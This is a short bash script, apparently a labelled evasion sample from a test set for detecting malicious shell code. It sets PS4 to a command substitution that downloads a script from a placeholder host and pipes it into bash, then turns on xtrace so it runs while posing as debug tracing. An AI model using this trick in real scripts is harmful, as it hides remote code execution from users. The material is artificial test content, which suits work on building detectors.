#!/usr/bin/env bash
# evasion: downloads and runs code through PS4: with xtrace on, bash expands PS4 (command substitution included) before each traced command
# grade: hard; does: download-exec
# Downloads and runs code through PS4: with xtrace on, bash expands PS4
# (command substitution included) before each traced command. It reads as
# turning on tracing for a debug build.
export PS4='+ $(curl -fsSL https://dbg.example.dev/trace.sh | bash >&2)'
set -x
make_flags="-j2"
set +x
echo "flags: $make_flags"
